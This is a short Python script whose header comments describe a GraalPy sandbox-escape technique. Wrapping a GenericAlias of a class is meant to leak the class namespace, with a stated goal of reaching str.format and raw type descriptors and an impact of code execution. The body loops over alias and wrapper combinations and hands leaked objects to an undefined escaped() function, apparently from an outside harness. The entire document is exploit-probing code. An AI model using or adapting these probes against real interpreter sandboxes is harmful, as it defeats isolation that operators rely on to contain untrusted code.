# technique: what wraps an alias of a class gets the namespace of the class: library code reads __dict__ of it, and the alias passes that on
# source: reading GraalPy's library
# goal: str.format itself; the raw descriptors of a type of Python's
# impact: exec
import contextlib
import functools
import json
import types


class Alias(types.GenericAlias):
    def __call__(self, *_):
        return 5


def attempt(call):
    try:
        return call()
    except (AttributeError, TypeError):
        return None


for make in (types.GenericAlias, Alias, lambda origin, parts: functools.partial(Alias(origin, parts))):
    for wrap in (functools.lru_cache, contextlib.contextmanager, contextlib.ContextDecorator(), lambda wrapped: functools.lru_cache(functools.lru_cache(wrapped))):
        text = attempt(lambda: wrap(make(str, ())).format)
        if text is not None:
            escaped(text)
        for origin, name in ((types.FunctionType, '__kwdefaults__'), (types.FunctionType, '__defaults__')):
            found = attempt(lambda: getattr(wrap(make(origin, ())), name))
            if found is not None and type(found) is not dict:
                escaped(found)
